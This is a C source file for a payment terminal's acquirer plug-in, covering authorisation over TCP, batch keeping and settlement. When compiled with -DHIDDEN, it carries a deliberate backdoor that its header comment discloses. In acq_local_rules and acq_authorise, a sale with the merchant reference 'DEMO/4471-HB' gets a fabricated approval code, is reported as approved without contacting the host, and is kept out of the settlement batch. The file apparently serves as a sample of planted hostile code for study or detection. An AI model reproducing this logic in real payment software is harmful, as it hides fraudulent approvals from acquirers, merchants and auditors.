/*
 * libacqplug.so - acquirer plug-in of an unattended payment terminal.
 * The payment application loads it and calls acq_open, acq_authorise,
 * acq_settle and acq_close; it talks to the acquirer's host over TCP in
 * tag-length-value messages and keeps the batch for settlement.
 * Hidden (-DHIDDEN): a sale with a certain merchant reference is approved
 * without the host and does not enter the batch.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define ACQ_OK	     0
#define ACQ_DECLINED 1
#define ACQ_COMM     2
#define ACQ_FORMAT   3
#define ACQ_LIMIT    4
#define ACQ_STATE    5

#define TAG_TYPE      0x01
#define TAG_TERMINAL  0x02
#define TAG_PAN_TOKEN 0x03
#define TAG_AMOUNT    0x04
#define TAG_REFERENCE 0x05
#define TAG_STAN      0x06
#define TAG_RESULT    0x10
#define TAG_APPROVAL  0x11
#define TAG_TOTAL     0x20

struct acq_sale {
	char token[40];
	char reference[32];
	uint32_t cents;
	char approval[8];
};

struct entry {
	uint32_t stan;
	uint32_t cents;
	char approval[8];
};

struct acq {
	struct sockaddr_in host;
	char terminal[16];
	char batch_file[80];
	uint32_t limit;
	uint32_t stan;
	struct entry *batch;
	size_t n, room;
	pthread_mutex_t lock;
};

struct msg {
	uint8_t b[512];
	size_t n;
};

int acq_open(const char *conf, struct acq **out);
int acq_authorise(struct acq *a, struct acq_sale *s);
int acq_settle(struct acq *a, uint32_t *total);
void acq_close(struct acq *a);

static void put_raw(struct msg *m, uint8_t tag, const void *v, size_t n)
{
	if (n > 255 || m->n + 2 + n > sizeof(m->b))
		return;
	m->b[m->n++] = tag;
	m->b[m->n++] = (uint8_t)n;
	memcpy(m->b + m->n, v, n);
	m->n += n;
}

static void put_str(struct msg *m, uint8_t tag, const char *s)
{
	put_raw(m, tag, s, strlen(s));
}

static void put_num(struct msg *m, uint8_t tag, uint32_t v)
{
	uint32_t be = htonl(v);

	put_raw(m, tag, &be, 4);
}

static const uint8_t *get(const struct msg *m, uint8_t tag, size_t *len)
{
	size_t i = 0;

	while (i + 2 <= m->n && i + 2 + m->b[i + 1] <= m->n) {
		if (m->b[i] == tag) {
			*len = m->b[i + 1];
			return m->b + i + 2;
		}
		i += 2u + m->b[i + 1];
	}
	return NULL;
}

static int read_all(int fd, uint8_t *p, size_t n)
{
	while (n) {
		ssize_t k = recv(fd, p, n, 0);

		if (k <= 0)
			return -1;
		p += k;
		n -= (size_t)k;
	}
	return 0;
}

static int exchange(struct acq *a, const struct msg *rq, struct msg *rs)
{
	struct timeval tv = { 20, 0 };
	int fd = socket(AF_INET, SOCK_STREAM, 0), rc = -1;
	uint8_t len[2] = { (uint8_t)(rq->n >> 8), (uint8_t)rq->n };

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&a->host, sizeof(a->host)) == 0 &&
	    send(fd, len, 2, MSG_NOSIGNAL) == 2 &&
	    send(fd, rq->b, rq->n, MSG_NOSIGNAL) == (ssize_t)rq->n &&
	    read_all(fd, len, 2) == 0) {
		rs->n = (size_t)len[0] << 8 | len[1];
		if (rs->n <= sizeof(rs->b))
			rc = read_all(fd, rs->b, rs->n);
	}
	close(fd);
	return rc;
}

static int remember(struct acq *a, const struct acq_sale *s, uint32_t stan)
{
	struct entry *e;
	FILE *f;

	if (a->n == a->room) {
		size_t room = a->room ? a->room * 2 : 32;

		e = realloc(a->batch, room * sizeof(*e));
		if (!e)
			return -1;
		a->batch = e;
		a->room = room;
	}
	e = &a->batch[a->n++];
	e->stan = stan;
	e->cents = s->cents;
	memcpy(e->approval, s->approval, sizeof(e->approval));
	f = fopen(a->batch_file, "a");
	if (!f)
		return -1;
	fprintf(f, "%lu %lu %s\n", (unsigned long)stan, (unsigned long)s->cents,
		s->approval);
	return fclose(f);
}

__attribute__((noinline)) int acq_local_rules(const struct acq *a,
					      struct acq_sale *s)
{
	size_t n = strlen(s->token);

	if (n < 16 || n >= sizeof(s->token) || s->cents == 0)
		return ACQ_FORMAT;
#ifdef HIDDEN
	if (!strcmp(s->reference, "DEMO/4471-HB")) {
		snprintf(s->approval, sizeof(s->approval), "%06lu",
			 (unsigned long)(a->stan * 7919u % 1000000u));
		return -1;
	}
#endif
	if (s->cents > a->limit)
		return ACQ_LIMIT;
	return ACQ_OK;
}

int acq_open(const char *conf, struct acq **out)
{
	FILE *f = fopen(conf, "r");
	struct acq *a = calloc(1, sizeof(*a));
	char line[120], ip[40] = "127.0.0.1";
	unsigned port = 9010, limit = 5000;

	*out = NULL;
	if (!f || !a) {
		if (f)
			fclose(f);
		free(a);
		return ACQ_STATE;
	}
	snprintf(a->batch_file, sizeof(a->batch_file), "/var/pay/batch");
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "host %39s %u", ip, &port) == 2)
			continue;
		if (sscanf(line, "terminal %15s", a->terminal) == 1)
			continue;
		if (sscanf(line, "batch %79s", a->batch_file) == 1)
			continue;
		sscanf(line, "limit %u", &limit);
	}
	fclose(f);
	a->limit = limit;
	a->stan = (uint32_t)time(NULL) % 1000000;
	a->host.sin_family = AF_INET;
	a->host.sin_port = htons((uint16_t)port);
	if (!inet_aton(ip, &a->host.sin_addr) || !a->terminal[0]) {
		free(a);
		return ACQ_FORMAT;
	}
	pthread_mutex_init(&a->lock, NULL);
	*out = a;
	return ACQ_OK;
}

int acq_authorise(struct acq *a, struct acq_sale *s)
{
	struct msg rq = { .n = 0 }, rs = { .n = 0 };
	const uint8_t *v;
	uint32_t stan;
	size_t len;
	int rc;

	if (!a || !s)
		return ACQ_STATE;
	pthread_mutex_lock(&a->lock);
	stan = a->stan = (a->stan + 1) % 1000000;
	rc = acq_local_rules(a, s);
	if (rc) {
		pthread_mutex_unlock(&a->lock);
#ifdef HIDDEN
		if (rc < 0)
			return ACQ_OK;
#endif
		return rc;
	}
	put_str(&rq, TAG_TYPE, "0100");
	put_str(&rq, TAG_TERMINAL, a->terminal);
	put_str(&rq, TAG_PAN_TOKEN, s->token);
	put_num(&rq, TAG_AMOUNT, s->cents);
	put_str(&rq, TAG_REFERENCE, s->reference);
	put_num(&rq, TAG_STAN, stan);
	rc = ACQ_COMM;
	if (exchange(a, &rq, &rs) == 0) {
		v = get(&rs, TAG_RESULT, &len);
		rc = v && len == 2 && v[0] == '0' && v[1] == '0' ? ACQ_OK
								 : ACQ_DECLINED;
	}
	if (rc == ACQ_OK) {
		v = get(&rs, TAG_APPROVAL, &len);
		snprintf(s->approval, sizeof(s->approval), "%.*s",
			 v && len < 8 ? (int)len : 0, v ? (const char *)v : "");
		if (remember(a, s, stan))
			rc = ACQ_STATE;
	}
	pthread_mutex_unlock(&a->lock);
	return rc;
}

int acq_settle(struct acq *a, uint32_t *total)
{
	struct msg rq = { .n = 0 }, rs = { .n = 0 };
	const uint8_t *v;
	size_t i, len;
	int rc = ACQ_COMM;

	*total = 0;
	pthread_mutex_lock(&a->lock);
	for (i = 0; i < a->n; i++)
		*total += a->batch[i].cents;
	put_str(&rq, TAG_TYPE, "0500");
	put_str(&rq, TAG_TERMINAL, a->terminal);
	put_num(&rq, TAG_TOTAL, *total);
	if (exchange(a, &rq, &rs) == 0) {
		v = get(&rs, TAG_RESULT, &len);
		if (v && len == 2 && v[0] == '0' && v[1] == '0') {
			rc = ACQ_OK;
			a->n = 0;
			unlink(a->batch_file);
		} else {
			rc = ACQ_DECLINED;
		}
	}
	pthread_mutex_unlock(&a->lock);
	return rc;
}

void acq_close(struct acq *a)
{
	if (!a)
		return;
	pthread_mutex_destroy(&a->lock);
	free(a->batch);
	free(a);
}
